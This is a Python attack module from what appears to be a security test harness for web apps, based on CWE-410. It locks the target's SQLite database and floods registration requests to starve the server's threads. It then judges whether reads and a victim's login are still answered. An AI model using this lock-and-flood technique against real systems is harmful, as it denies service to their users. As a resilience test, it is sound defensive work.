"""Lock everyone out by locking the database.

Exploits a server in which those who wait to write hold all threads or connections. Any program
that can open the file can lock it, a backup for example; then nobody can even read. Where a login
is stored, it cannot succeed meanwhile: the server may say when to try again.
Source: CWE-410 Insufficient Resource Pool,
https://cwe.mitre.org/data/definitions/410.html
ASVS: 15.2.2
"""

import sqlite3
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing

import httpx

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, got_in, refused
from attacks.lab.storms import unread
from attacks.lab.target import NotApplicableError, Person, Target

WRITERS = 45  # a usual server has 40 threads and 15 connections
PATIENCE = 3.0  # seconds: less than SQLite waits for a lock


@attack()
def run(target: Target) -> Outcome:
    """Lock, and let many register; read until a login that waits behind all of them is answered."""
    victim = target.enrol()
    token = target.token_of(victim)
    if not target.read(token).is_success:
        raise NotApplicableError("nobody reads here, whether the database is locked or not")
    people = [Person().registration() for _ in range(WRITERS)]
    crowd = [target.http.build_request("POST", "/auth/register", json=body) for body in people]
    login = target.login_request(victim.username, victim.password)
    target.http.timeout = PATIENCE  # of those who read; the login may wait longer
    try:
        with ThreadPoolExecutor(1) as pool, closing(locked(target)), unread(crowd):
            last = pool.submit(target.http.send, login)
            answers = [target.read(token)]
            while not last.done():
                answers.append(target.read(token))
    except httpx.TimeoutException:
        return got_in(f"nobody can read while {WRITERS} wait to be stored")
    crowded = f"while {WRITERS} wait to be stored"
    if not all(answer.is_success for answer in answers):
        return got_in(f"{crowded}, others are not served")
    return judged_by_login(last.result(), crowded)


def judged_by_login(login: httpx.Response, crowded: str) -> Outcome:
    """Others have read; whoever logs in must be served too, or be told when to come again."""
    if login.is_success:
        return refused(f"{crowded}, others log in and read")
    if login.status_code == httpx.codes.SERVICE_UNAVAILABLE and "Retry-After" in login.headers:
        return refused(f"{crowded}, others read; a login is told to come again")
    return got_in(f"{crowded}, a login is answered {login.status_code}")


def locked(target: Target) -> sqlite3.Connection:
    """Lock the database for writing, until the connection is closed."""
    connection = sqlite3.connect(target.leaked_database(), isolation_level=None)
    connection.execute("BEGIN IMMEDIATE")
    return connection
